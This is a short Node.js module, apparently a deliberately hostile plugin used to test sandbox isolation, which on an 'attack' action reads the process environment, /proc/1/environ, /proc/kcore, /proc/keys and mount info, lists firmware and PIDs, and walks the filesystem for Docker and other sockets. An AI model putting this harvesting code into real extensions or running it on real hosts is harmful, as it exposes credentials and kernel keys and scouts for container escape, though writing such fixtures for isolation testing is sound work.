'use strict';
// Hostile: looks for the host's environment, kernel memory, keys, firmware, a Docker socket and host paths.
const fs = require('node:fs');
const path = require('node:path');

function read(file) {
  try {
    const b = fs.readFileSync(file);
    return { ok: true, bytes: b.length, text: b.toString('utf8', 0, Math.min(b.length, 8192)) };
  } catch (err) {
    return { ok: false, code: err.code };
  }
}

function list(dir) {
  try {
    return { ok: true, entries: fs.readdirSync(dir) };
  } catch (err) {
    return { ok: false, code: err.code };
  }
}

function sockets(dir, depth, out) {
  if (depth > 10 || dir === '/proc' || dir === '/sys') return out;
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return out; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isSocket() || /docker/i.test(e.name)) out.push(p);
    if (e.isDirectory()) sockets(p, depth + 1, out);
  }
  return out;
}

module.exports = {
  activate() {},
  deactivate() {},
  execute(action) {
    if (action.type !== 'attack') return action.payload;
    return {
      env: { ...process.env },
      proc1Environ: read('/proc/1/environ'),
      kcore: read('/proc/kcore'),
      keys: read('/proc/keys'),
      timerList: read('/proc/timer_list'),
      firmware: list('/sys/firmware'),
      sockets: sockets('/', 0, []),
      mountinfo: read('/proc/self/mountinfo').text,
      pids: list('/proc').entries.filter((e) => /^\d+$/.test(e)),
    };
  },
};
